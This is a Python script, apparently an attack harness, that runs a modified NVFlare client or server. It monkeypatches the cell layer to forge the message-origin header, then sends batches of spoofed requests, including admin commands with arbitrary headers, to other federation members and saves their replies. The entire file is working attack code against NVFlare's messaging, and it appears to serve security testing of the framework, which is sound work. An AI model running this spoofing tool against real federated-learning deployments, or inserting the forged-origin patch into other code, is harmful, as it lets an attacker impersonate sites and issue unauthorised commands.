"""A site, or a server, whose owner changed its software: NVFlare without any guard, and a plan of attack.

Run as ``python attacker.py PLAN.json``. It starts NVFlare's own client (or server) on a kit, waits until that is
connected and PLAN.shots.json is there, sends what this says through NVFlare's network, and writes the answers.
"""

from __future__ import annotations

import json
import os
import runpy
import sys
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any


def main(plan_file: Path) -> None:
    import nvflare.fuel.f3.cellnet.core_cell  # noqa: F401 - before there are two threads

    plan = json.loads(plan_file.read_text())
    threading.Thread(target=attack, args=(plan, plan_file), daemon=True).start()
    sys.argv = [plan["module"], *plan["arguments"]]
    runpy.run_module(plan["module"], run_name="__main__", alter_sys=True)


def attack(plan: dict[str, Any], plan_file: Path) -> None:
    from nvflare.fuel.f3.cellnet.core_cell import CoreCell

    while plan["me"] not in CoreCell.ALL_CELLS:
        time.sleep(0.1)
    cell, send = CoreCell.ALL_CELLS[plan["me"]], CoreCell._send_to_endpoint

    def send_forged(self: Any, to_endpoint: Any, message: Any) -> Any:
        if forged := message.headers.pop("forged", None):
            message.set_header("cn__origin", forged)
        return send(self, to_endpoint, message)

    CoreCell._send_to_endpoint = send_forged
    wait_until_connected(cell, plan)
    while not plan_file.with_suffix(".shots.json").exists():
        time.sleep(0.1)
    shots = json.loads(plan_file.with_suffix(".shots.json").read_text())
    with ThreadPoolExecutor(24) as pool:
        found = list(pool.map(lambda shot: fire(cell, shot), shots))
    time.sleep(3.0)  # until the last one was received
    temporary = plan_file.with_suffix(".tmp")
    temporary.write_text(json.dumps(found))
    temporary.replace(plan_file.with_suffix(".answers.json"))


def wait_until_connected(cell: Any, plan: dict[str, Any]) -> None:
    while plan["wait_for"] not in cell.agents:
        time.sleep(0.1)
    time.sleep(plan.get("settle", 3.0))  # until it is registered and has its token


def fire(cell: Any, shot: dict[str, Any]) -> dict[str, Any]:
    """One message; an answer says what came back."""
    from nvflare.fuel.f3.message import Message
    from nvflare.private.admin_defs import Message as AdminMessage

    payload: Any = shot.get("payload")
    if "admin_topic" in shot:
        payload = AdminMessage(topic=shot["admin_topic"], body=shot.get("body", ""))
        for key, value in shot.get("admin_headers", {}).items():
            payload.set_header(key, value)
    message = Message({**shot.get("headers", {}), "forged": shot.get("origin")}, payload)
    if not shot.get("wait", True):
        cell.fire_and_forget(channel=shot["channel"], topic=shot["topic"], targets=shot["target"], message=message)
        return {}
    reply = cell.send_request(
        channel=shot["channel"], topic=shot["topic"], target=shot["target"], request=message, timeout=3.0
    )
    body = getattr(reply.payload, "body", reply.payload)
    return {"code": reply.get_header("cn__return_code"), "body": str(body)[:3000]}


if __name__ == "__main__":
    os.environ.setdefault("OMP_NUM_THREADS", "1")
    main(Path(sys.argv[1]))
